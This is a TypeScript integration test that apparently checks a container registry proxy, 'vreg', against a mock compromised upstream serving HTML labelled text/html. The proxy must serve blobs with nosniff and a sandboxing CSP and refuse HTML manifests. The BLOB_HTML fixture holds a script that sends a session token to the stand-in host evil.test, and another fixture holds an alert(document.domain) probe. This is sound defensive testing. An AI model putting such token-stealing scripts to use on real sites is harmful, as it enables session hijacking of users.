import { createHash } from 'node:crypto';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startEmbeddedUnderTest } from './support/embedded-under-test.ts';
import type { VregUnderTest } from './support/pull-scenarios.ts';
import { AttackClasses, recordAttacks } from './support/security-record.ts';
import { waitFor } from './support/wait.ts';

const sha256 = (b: Buffer): string => `sha256:${createHash('sha256').update(b).digest('hex')}`;

/** What a page on vreg's origin would run if a browser rendered it: the console's token is in sessionStorage there. */
const BLOB_HTML = Buffer.from('<html><body><script>fetch("//evil.test/?t="+sessionStorage.getItem("vreg"))</script></body></html>');
const MANIFEST_HTML = Buffer.from('<html><body><script>alert(document.domain)</script></body></html>');
/** A well-formed manifest an upstream labels text/html: the label alone is reason enough to refuse it. */
const JSON_AS_HTML = Buffer.from('{"schemaVersion":2,"mediaType":"application/vnd.oci.image.manifest.v1+json","config":{},"layers":[]}');

/**
 * A registry that answers like a compromised one (or one reached over plain
 * http and tampered with): an HTML blob (its digest is right: the bytes are
 * the blob) and HTML manifests, all labelled text/html. Every request counted.
 */
async function startHostileUpstream(): Promise<{ url: string; count(path: string): number; close(): Promise<void> }> {
  const seen = new Map<string, number>();
  const server: Server = createServer((req, res) => {
    const path = (req.url ?? '').split('?')[0] as string;
    seen.set(`${req.method} ${path}`, (seen.get(`${req.method} ${path}`) ?? 0) + 1);
    const send = (body: Buffer, extra: Record<string, string> = {}) => {
      res.writeHead(200, { 'content-type': 'text/html; charset=utf-8', 'content-length': String(body.length), ...extra });
      res.end(req.method === 'HEAD' ? undefined : body);
    };
    if (path === '/v2/' || path === '/v2') return void res.writeHead(200, { 'content-type': 'application/json' }).end('{}');
    if (path === `/v2/evil/app/blobs/${sha256(BLOB_HTML)}`) return send(BLOB_HTML);
    if (path === '/v2/evil/app/manifests/latest' || path === `/v2/evil/app/manifests/${sha256(MANIFEST_HTML)}`)
      return send(MANIFEST_HTML, { 'docker-content-digest': sha256(MANIFEST_HTML) });
    if (path === '/v2/evil/app/manifests/json') return send(JSON_AS_HTML, { 'docker-content-digest': sha256(JSON_AS_HTML) });
    res.writeHead(404, { 'content-type': 'application/json' }).end('{"errors":[{"code":"NOT_FOUND","message":"no"}]}');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://127.0.0.1:${port}`,
    count: (path) => (seen.get(`GET ${path}`) ?? 0) + (seen.get(`HEAD ${path}`) ?? 0),
    close: () => new Promise((resolve) => server.close(() => resolve())),
  };
}

function expectHardened(res: Response, what: string): void {
  expect(res.headers.get('x-content-type-options'), what).toBe('nosniff');
  expect(res.headers.get('content-security-policy'), what).toBe("default-src 'none'; sandbox");
}

describe('a hostile upstream answering text/html (embedded vreg)', () => {
  let vreg: VregUnderTest;
  let upstream: Awaited<ReturnType<typeof startHostileUpstream>>;
  let base: string;
  let upstreamId: string;

  beforeAll(async () => {
    upstream = await startHostileUpstream();
    vreg = await startEmbeddedUnderTest();
    const { id } = await vreg.admin.createRegistry('hostile', { visibility: 'public' });
    upstreamId = (await vreg.admin.addUpstream(id, { name: 'evil', url: upstream.url })).id;
    base = `${vreg.gatewayUrl}/v2/virtual_registries/containers/${id}/evil/app`;
  });
  afterAll(async () => {
    await vreg?.stop();
    await upstream?.close();
  });

  it('serves an HTML blob as application/octet-stream with nosniff and a sandboxing CSP, cold and cached, GET and HEAD', async () => {
    // Four answers carrying the upstream's HTML: HEAD and GET, cold and cached.
    recordAttacks(
      AttackClasses.hostileUpstream,
      'serves an HTML blob as application/octet-stream with nosniff and a sandboxing CSP, cold and cached, GET and HEAD',
      'test/hostile-upstream.int.test.ts',
    ).tried(4);
    const url = `${base}/blobs/${sha256(BLOB_HTML)}`;
    const head = await fetch(url, { method: 'HEAD' });
    expect(head.status).toBe(200);
    expect(head.headers.get('content-type')).toBe('application/octet-stream');
    expectHardened(head, 'HEAD, cold');
    const cold = await fetch(url);
    expect(cold.status).toBe(200);
    expect(cold.headers.get('content-type')).toBe('application/octet-stream');
    expect(cold.headers.get('x-vreg-cache')).toBe('miss');
    expectHardened(cold, 'GET, cold');
    expect(Buffer.from(await cold.arrayBuffer()).equals(BLOB_HTML)).toBe(true);
    await waitFor('the blob recorded', async () =>
      (await vreg.admin.cacheEntries(upstreamId)).some((e) => String(e.relative_path).includes('/blobs/')) ? true : undefined,
    );
    for (const method of ['GET', 'HEAD']) {
      const cached = await fetch(url, { method });
      expect(cached.status).toBe(200);
      expect(cached.headers.get('x-vreg-cache')).toBe('hit');
      expect(cached.headers.get('content-type'), `${method}, cached`).toBe('application/octet-stream');
      expectHardened(cached, `${method}, cached`);
      if (method === 'GET') expect(Buffer.from(await cached.arrayBuffer()).equals(BLOB_HTML)).toBe(true);
    }
    expect(upstream.count(`/v2/evil/app/blobs/${sha256(BLOB_HTML)}`)).toBe(2); // the cold HEAD and the cold GET
  });

  it('refuses HTML manifests (by tag, by digest, JSON labelled text/html) with 502 MANIFEST_INVALID and stores none of them', async () => {
    const tally = recordAttacks(
      AttackClasses.hostileUpstream,
      'refuses HTML manifests (by tag, by digest, JSON labelled text/html) with 502 MANIFEST_INVALID and stores none of them',
      'test/hostile-upstream.int.test.ts',
    );
    const paths = ['manifests/latest', `manifests/${sha256(MANIFEST_HTML)}`, 'manifests/json'];
    for (const path of paths) {
      for (let attempt = 1; attempt <= 2; attempt += 1) {
        for (const method of ['GET', 'HEAD']) {
          const asked = upstream.count(`/v2/evil/app/${path}`);
          const res = await fetch(`${base}/${path}`, { method });
          tally.tried();
          const what = `${method} ${path}, attempt ${attempt}`;
          // Never stored, never remembered: every request asks the upstream again.
          expect(upstream.count(`/v2/evil/app/${path}`), what).toBeGreaterThan(asked);
          expect(res.status, what).toBe(502);
          expect(res.headers.get('content-type'), what).toBe('application/json; charset=utf-8');
          expectHardened(res, what);
          if (method === 'GET') {
            const body = (await res.json()) as { errors: Array<{ code: string; message: string }> };
            expect(body.errors[0]?.code, what).toBe('MANIFEST_INVALID');
            expect(body.errors[0]?.message, what).toMatch(/text\/html.*not an OCI or Docker manifest type/);
          }
        }
      }
    }
    const entries = await vreg.admin.cacheEntries(upstreamId);
    expect(entries.filter((e) => String(e.relative_path).includes('/manifests/'))).toEqual([]);
    const stored = await vreg.storedDigests();
    expect(stored).not.toContain(sha256(MANIFEST_HTML));
    expect(stored).not.toContain(sha256(JSON_AS_HTML));
  });

  it('hardens every other /v2 answer too: the version check, a challenge, the token endpoint, 404s and refusals', async () => {
    const tally = recordAttacks(
      AttackClasses.hostileUpstream,
      'hardens every other /v2 answer too: the version check, a challenge, the token endpoint, 404s and refusals',
      'test/hostile-upstream.int.test.ts',
    );
    const { id: privateId } = await vreg.admin.createRegistry('hostile-private', { visibility: 'private' });
    const cases: Array<[string, string, RequestInit?]> = [
      ['version check', `${vreg.gatewayUrl}/v2/`],
      ['challenge', `${vreg.gatewayUrl}/v2/virtual_registries/containers/${privateId}/evil/app/manifests/latest`],
      ['token endpoint', `${vreg.gatewayUrl}/v2/token?service=vreg`],
      ['token endpoint, wrong password', `${vreg.gatewayUrl}/v2/token?service=vreg`, { headers: { authorization: 'Basic eDp5' } }],
      ['unknown route', `${vreg.gatewayUrl}/v2/nothing-here`],
      ['unknown blob', `${base}/blobs/sha256:${'0'.repeat(64)}`],
      ['push refused', `${base}/manifests/latest`, { method: 'PUT', body: '{}', headers: { 'content-type': 'application/json' } }],
      ['bad digest', `${base}/blobs/sha256:zz`],
    ];
    for (const [what, url, init] of cases) {
      const res = await fetch(url, init);
      tally.tried();
      expect(res.status, what).toBeGreaterThanOrEqual(200);
      expectHardened(res, what);
    }
  });
});
